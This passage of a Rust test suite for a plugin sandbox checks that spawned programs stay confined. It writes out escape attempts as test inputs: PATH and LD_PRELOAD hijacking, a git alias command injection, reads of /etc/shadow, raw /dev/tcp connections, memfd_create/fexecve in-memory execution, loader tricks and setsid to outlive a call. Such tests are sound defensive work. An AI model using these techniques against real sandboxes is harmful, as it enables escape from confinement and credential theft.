        "The plugin toolwright-tool-bash was stopped: it ran past its time limit of 300 ms"
    );
    assert_eq!(text(&out[1]), "fine\n");
}

/// What the probe's `spawn` answers when the host refuses a variable it passes.
fn steering_refusal(var: &str, program: &str) -> String {
    format!(
        "Permission denied: the plugin toolwright-test-probe may not set {var} for {program}: it changes which code \
         a program loads or runs. An env grant naming {var} (not `*`) in the policy file (toolwright.toml) would \
         allow it."
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_granted_program_stays_the_program_the_host_resolved() {
    let policy = "[plugins.toolwright-test-probe]\nread = [\".\"]\nwrite = [\"./out\"]\nspawn = [\"echo\"]\nenv = [\"*\"]\n";
    let s = sandbox(policy);
    // A fake `echo` in the plugin's writable grant (the plugin writes it; the test makes it executable, which a
    // plugin with a granted shell could do too).
    let fake = s.path("out/echo");
    std::fs::write(&fake, "#!/bin/sh\necho hijacked\n").unwrap();
    std::fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let out_dir = s.path("out");
    let out = s
        .run(&[
            json!({"action": "spawn", "target": "echo", "env": {"PATH": out_dir}}),
            json!({"action": "spawn", "target": "echo", "env": {"LD_PRELOAD": s.path("out/evil.so")}}),
            json!({"action": "spawn", "target": "echo", "env": {"GIT_CONFIG_GLOBAL": s.path("out/cfg")}}),
            json!({"action": "spawn", "target": "echo", "env": {"BASH_ENV": s.path("out/rc")}}),
            json!({"action": "spawn", "target": fake}),
            json!({"action": "spawn", "target": "echo", "env": {"GREETING": "hi"}}),
        ])
        .await;
    assert_eq!(
        text(&out[0]),
        steering_refusal("PATH", "echo"),
        "a `*` env grant names no variable"
    );
    assert_eq!(text(&out[1]), steering_refusal("LD_PRELOAD", "echo"));
    assert_eq!(text(&out[2]), steering_refusal("GIT_CONFIG_GLOBAL", "echo"));
    assert_eq!(text(&out[3]), steering_refusal("BASH_ENV", "echo"));
    assert_eq!(
        text(&out[4]),
        format!(
            "Permission denied: starting {fake} is not granted to the plugin toolwright-test-probe. A process grant \
             of {fake} in the policy file (toolwright.toml) would allow it."
        )
    );
    assert_eq!(text(&out[5]), "probe-ran\n", "other variables pass");

    // Granted by name, PATH may be set, but the program is still the one the host resolved.
    let s = sandbox(&policy.replace("env = [\"*\"]", "env = [\"PATH\"]"));
    let fake = s.path("out/echo");
    std::fs::write(&fake, "#!/bin/sh\necho hijacked\n").unwrap();
    std::fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let out = s
        .run(&[json!({"action": "spawn", "target": "echo", "env": {"PATH": s.path("out")}})])
        .await;
    assert_eq!(text(&out[0]), "probe-ran\n");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_program_granted_with_argument_rules_takes_only_those_arguments() {
    let s = sandbox(
        "[plugins.toolwright-test-probe]\nread = [\".\"]\nspawn = [{ program = \"git\", args = [[\"status\"], [\"log\", \"--oneline\"]] }, \"/bin/echo\"]\n",
    );
    let out = s
        .run(&[
            json!({"action": "spawn", "target": "git", "args": ["-c", "alias.x=!echo pwned", "x"]}),
            json!({"action": "spawn", "target": "git", "args": ["log", "-p"]}),
            json!({"action": "spawn", "target": "git", "args": ["--version"]}),
            json!({"action": "spawn", "target": "git", "args": ["status", "--short"]}),
            json!({"action": "spawn", "target": "/bin/echo", "args": ["-c", "anything"]}),
        ])
        .await;
    let refusal = |args: &str| {
        format!(
            "Permission denied: the plugin toolwright-test-probe may start git only with arguments starting with one \
             of [status], [log --oneline]; [{args}] is not granted."
        )
    };
    assert_eq!(text(&out[0]), refusal("-c alias.x=!echo pwned x"));
    assert_eq!(text(&out[1]), refusal("log -p"));
    assert_eq!(text(&out[2]), refusal("--version"));
    // Allowed: git runs (and finds no repository it may read).
    assert!(!out[3].is_error, "{}", text(&out[3]));
    assert!(
        !text(&out[3]).starts_with("Permission denied"),
        "{}",
        text(&out[3])
    );
    assert_eq!(
        text(&out[4]),
        "-c anything\n",
        "a plain grant takes any arguments"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_spawned_program_reaches_only_the_plugins_grants() {
    let s = sandbox(
        "[plugins.toolwright-test-probe]\nread = [\".\"]\nwrite = [\"./out\"]\nspawn = [\"cat\", \"sh\", \"bash\"]\n",
    );
    let port = greeter("hello\n");
    let outside = std::fs::read_link(s.ws.path().join("link")).unwrap();
    let outside = outside.to_string_lossy();
    let (inside, out_dir) = (s.path("a.txt"), s.path("out"));
    let sh = |script: String| json!({"action": "spawn", "target": "sh", "args": ["-c", script]});
    let out = s
        .run(&[
            json!({"action": "spawn", "target": "cat", "args": [inside]}),
            json!({"action": "spawn", "target": "cat", "args": [outside]}),
            json!({"action": "spawn", "target": "cat", "args": ["/etc/shadow"]}),
            sh(format!("echo written > {out_dir}/f && cat {out_dir}/f")),
            sh(format!("echo x > {inside}")),
            sh(format!("cp /bin/echo {out_dir}/e && {out_dir}/e ran")),
            json!({"action": "spawn", "target": "bash", "args": ["-c", format!("cat < /dev/tcp/127.0.0.1/{port}")]}),
        ])
        .await;
    if toolwright::native::landlock_abi() < 4 {
        // No Landlock here: the grant is refused (no `unconfined-spawn`).
        assert!(
            text(&out[0]).contains("only confined by Landlock"),
            "{}",
            text(&out[0])
        );
        return;
    }
    assert_eq!(text(&out[0]), "inside");
    assert_eq!(text(&out[1]), format!("cat: {outside}: Permission denied\n"));
    assert_eq!(text(&out[2]), "cat: /etc/shadow: Permission denied\n");
    assert_eq!(text(&out[3]), "written\n");
    assert_eq!(
        text(&out[4]),
        format!("sh: 1: cannot create {inside}: Permission denied\n")
    );
    assert_eq!(
        text(&out[5]),
        format!("sh: 1: {out_dir}/e: Permission denied\n"),
        "written files never run"
    );
    assert_eq!(
        text(&out[6]),
        format!(
            "bash: connect: Permission denied\nbash: line 1: /dev/tcp/127.0.0.1/{port}: Permission denied\n"
        ),
        "no TCP without a network grant"
    );

    // With a network grant: the granted host, by name, through the host's proxy; nothing directly, not even the
    // granted port (the program's namespace has only its own loopback).
    let other = greeter("other\n");
    let s = sandbox(&format!(
        "[plugins.toolwright-test-probe]\nspawn = [\"bash\"]\nnetwork = [\"127.0.0.1:{port}\"]\n"
    ));
    let proxy = toolwright::native::sandbox::PROXY_PORT;
    let tunnel = |port: u16| {
        json!({"action": "spawn", "target": "bash", "args": ["-c", format!(
            "exec 3<>/dev/tcp/127.0.0.1/{proxy}; printf 'CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\n' >&3; \
             timeout 5 cat <&3 | tr -d '\\r'"
        )]})
    };
    let connect = |port: u16| json!({"action": "spawn", "target": "bash", "args": ["-c", format!("cat < /dev/tcp/127.0.0.1/{port}")]});
    let out = s.run(&[tunnel(port), tunnel(other), connect(port)]).await;
    assert_eq!(text(&out[0]), "HTTP/1.1 200 Connection established\n\nhello\n");
    assert!(
        text(&out[1]).starts_with("HTTP/1.1 403 Forbidden\n"),
        "{}",
        text(&out[1])
    );
    assert!(
        text(&out[1]).contains(&format!("127.0.0.1:{other} is not granted")),
        "{}",
        text(&out[1])
    );
    assert!(
        text(&out[2]).contains("Connection refused") || text(&out[2]).contains("Permission denied"),
        "{}",
        text(&out[2])
    );
}

/// What a hostile plugin with `python3` runs: a binary it wrote (a copy of `touch`) put in memory and run with
/// `fexecve`, then a system program run by descriptor (`execveat`, which Landlock alone would allow).
const FROM_MEMORY: &str = r#"
import errno, os, sys
out = sys.argv[1]
data = open("/usr/bin/touch", "rb").read()
try:
    fd = os.memfd_create("e")
except OSError as e:
    print("memfd_create:", errno.errorcode[e.errno])
else:
    os.write(fd, data)
    os.execve(fd, ["e", out + "/memfd-ran"], {})
fd = os.open("/usr/bin/touch", os.O_RDONLY)
try:
    os.execve(fd, ["touch", out + "/fexecve-ran"], {})
except OSError as e:
    print("fexecve:", errno.errorcode[e.errno])
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn written_code_does_not_run_from_memory_and_through_the_loader_runs_only_confined() {
    const PYTHON: &str = "/usr/bin/python3";
    const LOADER: &str = "/lib64/ld-linux-x86-64.so.2";
    if toolwright::native::landlock_abi() < 4 || !Path::new(PYTHON).exists() {
        return; // no confinement here (see a_spawned_program_reaches_only_the_plugins_grants), or no Python
    }
    let s = sandbox(&format!(
        "[plugins.toolwright-test-probe]\nread = [\".\"]\nwrite = [\"./out\"]\nspawn = [\"{PYTHON}\", \"sh\", \"cat\"]\n"
    ));
    let outside = std::fs::read_link(s.ws.path().join("link")).unwrap();
    let outside = outside.parent().unwrap().to_string_lossy().into_owned();
    let out_dir = s.path("out");
    let loader = format!(
        "cp /usr/bin/touch {out_dir}/t && {LOADER} {out_dir}/t {out_dir}/loader-ran {outside}/loader-escaped; echo $?"
    );
    let out = s
        .run(&[
            json!({"action": "spawn", "target": PYTHON, "args": ["-c", FROM_MEMORY, out_dir]}),
            json!({"action": "spawn", "target": "sh", "args": ["-c", loader]}),
            json!({"action": "spawn", "target": "cat", "args": [s.path("a.txt")]}),
        ])
        .await;
    assert_eq!(
        text(&out[0]),
        "memfd_create: EPERM\nfexecve: EPERM\n",
        "seccomp refuses an anonymous file and execution by descriptor (Landlock's refusal is EACCES)"
    );
    assert!(
        !s.ws.path().join("out/memfd-ran").exists(),
        "the binary in memory ran"
    );
    assert!(
        !s.ws.path().join("out/fexecve-ran").exists(),
        "execveat ran a program"
    );
    if Path::new(LOADER).exists() {
        // What docs/permissions.md says remains: the loader maps a written binary as it maps a library, and it
        // runs, confined as any program the plugin starts.
        assert_eq!(
            text(&out[1]),
            format!("{out_dir}/t: cannot touch '{outside}/loader-escaped': Permission denied\n1\n")
        );
        assert!(s.ws.path().join("out/loader-ran").exists());
        assert!(!Path::new(&outside).join("loader-escaped").exists());
    }
    assert_eq!(text(&out[2]), "inside", "the next start works");
}

/// Whether process `pid` still runs (a zombie runs nothing: it only waits for its new parent to reap it).
fn running(pid: u32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|stat| {
        stat.rsplit_once(')')
            .is_some_and(|(_, rest)| !rest.trim_start().starts_with('Z'))
    })
}

/// The pids a script wrote to `file`, one per line, once it wrote `count` of them.
fn pids(file: &str, count: usize) -> Vec<u32> {
    let text = std::fs::read_to_string(file).unwrap_or_default();
    let pids: Vec<u32> = text.lines().filter_map(|l| l.trim().parse().ok()).collect();
    assert_eq!(pids.len(), count, "{file}: {text:?}");
    pids
}

/// Waits (briefly) until none of `pids` runs.
async fn assert_gone(pids: &[u32], case: &str) {
    let deadline = Instant::now() + Duration::from_secs(3);
    while pids.iter().any(|p| running(*p)) && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let alive: Vec<&u32> = pids.iter().filter(|p| running(**p)).collect();
    assert!(
        alive.is_empty(),
        "{case}: processes {alive:?} outlived their call"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_process_outlives_its_call_not_even_in_a_new_session() {
    // A background child in the shell's group, and one that left it with setsid; the shell exits at once
    // (the call ends normally) or waits (the call times out, or is cancelled).
    let script = |out: &str, end: &str| {
        format!("sleep 600 & echo $! >> {out}/pids; setsid sleep 600 & echo $! >> {out}/pids; {end}")
    };
    for (case, timeout, cancel_ms, end) in [
        ("the call ended", "", None, "exit 0"),
        ("the call timed out", "timeout-ms = 400\n", None, "sleep 600"),
        ("the call was cancelled", "", Some(400), "sleep 600"),
    ] {
        let s = sandbox(&format!(
            "[plugins.toolwright-test-probe]\nread = [\".\"]\nwrite = [\"./out\"]\nspawn = [\"sh\"]\n{timeout}"
        ));
        let probe = json!({"action": "spawn", "target": "sh", "args": ["-c", script(&s.path("out"), end)]});
        let cancel = match cancel_ms {
            Some(ms) => cancel_after(Duration::from_millis(ms)),
            None => CancellationToken::new(),
        };
        let started = Instant::now();
        let out = s.run_with(&[probe], cancel).await;
        assert!(
            started.elapsed() < Duration::from_secs(5),
            "{case}: {:?}",
            started.elapsed()
        );
        match case {
            "the call ended" => assert_eq!(text(&out[0]), "", "{case}"),
            "the call timed out" => assert_eq!(
                text(&out[0]),
                "The plugin toolwright-test-probe was stopped: it ran past its time limit of 400 ms"
            ),
            _ => assert!(out[0].is_error, "{case}: {}", text(&out[0])),
        }
        assert_gone(&pids(&s.path("out/pids"), 2), case).await;
    }
}

#[test]
fn a_reloaded_toolset_shares_its_plugin_host_and_another_embedders_does_not() {
    use toolwright::toolset::BuiltinMode;
    let ws = tempfile::tempdir().unwrap();
    let mut options = ToolsetOptions::bare(ws.path());
    options.builtins = BuiltinMode::Wasm;
    options.cache_dir = Some(test_cache_dir());
    let first = Toolset::load(&options).unwrap();
    let reload = Toolset::load(&options.clone()).unwrap();
    let (Some(a), Some(b)) = (&first.host, &reload.host) else {
        panic!("wasm built-ins load into a plugin host");
    };
    assert!(
        std::sync::Arc::ptr_eq(a, b),
        "one runtime for a toolset and its reloads"
    );
    let other = Toolset::load(&ToolsetOptions {
        hosts: Default::default(),
        ..options.clone()
    })
    .unwrap();
    assert!(
        !std::sync::Arc::ptr_eq(a, other.host.as_ref().unwrap()),
        "hosts are owned by whoever holds the options, not by the process"
    );
}
